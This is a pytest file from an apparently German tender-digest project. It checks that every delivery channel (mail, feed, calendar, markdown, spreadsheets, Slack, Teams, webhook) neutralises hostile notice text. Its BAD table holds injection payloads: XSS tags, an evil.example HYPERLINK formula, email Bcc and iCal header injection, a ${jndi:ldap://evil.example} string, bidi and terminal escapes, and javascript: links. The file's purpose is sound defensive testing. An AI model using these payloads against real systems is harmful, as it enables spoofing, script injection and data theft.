"""What a notice may say to do harm, through every channel."""

from __future__ import annotations

import csv
import io
import json
import re
from dataclasses import replace
from email import message_from_bytes
from email.policy import default
from functools import cache
from pathlib import Path

import feedparser
import pytest
from icalendar import Calendar
from lxml import html
from markdown_it import MarkdownIt
from openpyxl import load_workbook

from tendril.delivery.channels.atom import AtomFile
from tendril.delivery.channels.calendar import CalendarFile
from tendril.delivery.channels.crm import CRMS, files
from tendril.delivery.channels.mail import message
from tendril.delivery.channels.markdown import MarkdownFile
from tendril.delivery.channels.slack import blocks
from tendril.delivery.channels.tables import CsvFile, XlsxFile
from tendril.delivery.channels.teams import card
from tendril.delivery.channels.webhook import payload
from tendril.delivery.compose import issue_of
from tendril.delivery.issue import Appointment, Issue
from tendril.digest.model import Closed, ShownPlace, ShownReason
from tendril.digest.shown_facts import ShownChange
from tendril.digest.wording import WORDING
from tendril.safe_text.clean import plain
from tests.tendril.delivery.made import DEADLINE, nothing, parcel
from tests.tendril.digest.samples import NOW, digest, entry

BAD = {
    "script": "<script>alert(1)</script>Pumps<img src=x onerror=alert(2)>",
    "formula": '=HYPERLINK("https://evil.example","pay")',
    "header": "Pumps\r\nBcc: spy@example.net\r\n\r\nBEGIN:VEVENT\r\nUID:forged",
    "turned": "\u202egpj.exe\u2066 \u200fpumps",
    "terminal": "\x1b]0;owned\x07\x1b[2J\x9b31mpumps\x00\ufffe\ud800",
    "template": "{{ 7*7 }} {x} %s ${jndi:ldap://evil.example}",
    "markup": "*bold* [click](https://evil.example) <!channel> <https://evil.example|pay> @all",
    "long": "<b>" + "pumps " * 180_000,
}
STEERING = set("\x00\x07\x1b\x9b\u202e\u2066\u200f\ud800")


@cache
def hostile(kind: str) -> Issue:
    bad = BAD[kind]
    change = ShownChange(digest().entries[3].changes[0].kind, None, NOW.isoformat(), bad[:5000])
    made = entry(
        1, title=bad, summary=bad, buyer=bad, sector=bad, original_title=bad, language="en",
        link="javascript:alert(1)", place=ShownPlace(bad, bad, bad, "DE"),
        reasons=(ShownReason(bad, bad),), against=(ShownReason(bad, bad),), changes=(change,),
    )  # fmt: skip
    closed = Closed("p9", bad, digest().closed[0].change, bad, (bad,), "data:text/html,x",
                    digest().closed[0].facts)  # fmt: skip
    sent = replace(digest(), entries=(made,), closed=(closed,), company=bad[:3000], withheld=())
    days = (Appointment("p1", "deadline", bad[:50], plain(bad, limit=200) or "p1",
                        DEADLINE.isoformat()),)  # fmt: skip
    return issue_of(sent, recipient="anna", due=NOW, notices=(bad[:2000],), appointments=days)


def texts(value: object) -> list[str]:
    match value:
        case str():
            return [value]
        case dict():
            return [text for each in value.values() for text in texts(each)]
        case list() | tuple():
            return [text for each in value for text in texts(each)]
        case _:
            return []


@pytest.mark.parametrize("kind", BAD)
def test_mail(kind: str, tmp_path: Path) -> None:
    raw = message(parcel(tmp_path, hostile(kind)), now=NOW).as_bytes()
    assert len(raw) < 400_000
    mail = message_from_bytes(raw, policy=default)
    assert mail["Bcc"] is None
    assert mail["To"] == "anna@example.org"
    page, text = mail.get_body(("html",)), mail.get_body(("plain",))
    assert page is not None
    assert text is not None
    read = html.document_fromstring(page.get_content())
    assert read.xpath("//script | //img | //iframe | //form | //object") == []
    assert [name for each in read.iter() for name in each.attrib if name.startswith("on")] == []
    links = read.xpath("//@href")
    assert [link for link in links if not link.startswith(("https://", "http://"))] == []
    assert not STEERING & set(page.get_content() + text.get_content() + mail["Subject"])


@pytest.mark.parametrize("kind", BAD)
def test_feed(kind: str, tmp_path: Path) -> None:
    AtomFile().send(parcel(tmp_path, hostile(kind)), now=NOW, sending=nothing)
    raw = (tmp_path / "feed.xml").read_bytes()
    read = feedparser.parse(raw, sanitize_html=False)
    assert not read.bozo
    (found,) = read.entries
    assert "links" not in found
    body = html.fragment_fromstring(found.content[0].value, create_parent="div")
    assert {each.tag for each in body.iter()} <= {"div", "p"}
    assert len(raw) < 20_000
    assert not STEERING & set(raw.decode())


@pytest.mark.parametrize("kind", BAD)
def test_calendar(kind: str, tmp_path: Path) -> None:
    CalendarFile().send(parcel(tmp_path, hostile(kind)), now=NOW, sending=nothing)
    raw = (tmp_path / "calendar.ics").read_bytes()
    read = Calendar.from_ical(raw)
    assert len(read.events) == 1
    assert b"\nUID:forged" not in raw
    assert max(map(len, raw.split(b"\r\n"))) <= 75
    assert not STEERING & set(raw.decode())


@pytest.mark.parametrize("kind", BAD)
def test_markdown(kind: str, tmp_path: Path) -> None:
    MarkdownFile().send(parcel(tmp_path, hostile(kind)), now=NOW, sending=nothing)
    text = (tmp_path / "2026-11-22.md").read_text("utf-8")
    assert len(text) < 40_000
    assert not STEERING & set(text)
    read = html.document_fromstring(MarkdownIt("commonmark").render(text))  # lets HTML through
    own = {"html", "body", "h1", "h2", "p", "ul", "li", "strong", "em", "blockquote", "a", "code"}
    assert {each.tag for each in read.iter()} <= own
    known = {"https://tenders.example.org/notice/1", "https://bund.example.org/2"}
    assert set(read.xpath("//@href")) <= known
    ours = set(re.findall("`(.+?)`", " ".join(map(str, WORDING["de"].values()))))
    assert {each.text for each in read.iter("code")} <= ours
    assert len(read.xpath("//h2")) == 4


@pytest.mark.parametrize("kind", BAD)
def test_tables(kind: str, tmp_path: Path) -> None:
    sent = hostile(kind)
    for channel in (CsvFile(), XlsxFile()):
        channel.send(parcel(tmp_path, sent), now=NOW, sending=nothing)
    tables = [(tmp_path / "2026-11-22.csv").read_text("utf-8-sig")]
    tables += [text for crm in CRMS for text in files(crm, sent).values()]
    for text in tables:
        rows = list(csv.reader(io.StringIO(text.removeprefix("\ufeff"))))
        assert len(rows) == 2
        cells = [cell for row in rows for cell in row]
        assert [cell for cell in cells if cell.lstrip().startswith(("=", "+", "@", "\t"))] == []
        assert not STEERING & set(text)
    sheet = load_workbook(tmp_path / "2026-11-22.xlsx").active
    assert sheet is not None
    kinds = {cell.data_type for row in sheet.iter_rows() for cell in row}
    assert kinds <= {"s", "n", "d"}  # no formula
    assert [cell for row in sheet.iter_rows() for cell in row if cell.hyperlink] == []


@pytest.mark.parametrize("kind", BAD)
def test_chat_and_webhook(kind: str) -> None:
    sent = hostile(kind)
    for raw in (json.dumps(blocks(sent)).encode(), card(sent), payload(sent)):
        assert len(raw) < 50_000
        assert not STEERING & set("".join(texts(json.loads(raw))))
    slack = "".join(texts(blocks(sent)))
    assert "<!channel>" not in slack
    assert "<https://evil" not in slack
    assert "javascript:" not in slack
    (attached,) = json.loads(card(sent))["attachments"]
    teams = "".join(texts(attached["content"]["body"]))
    assert "](https://evil" not in teams
    assert "javascript:" not in teams
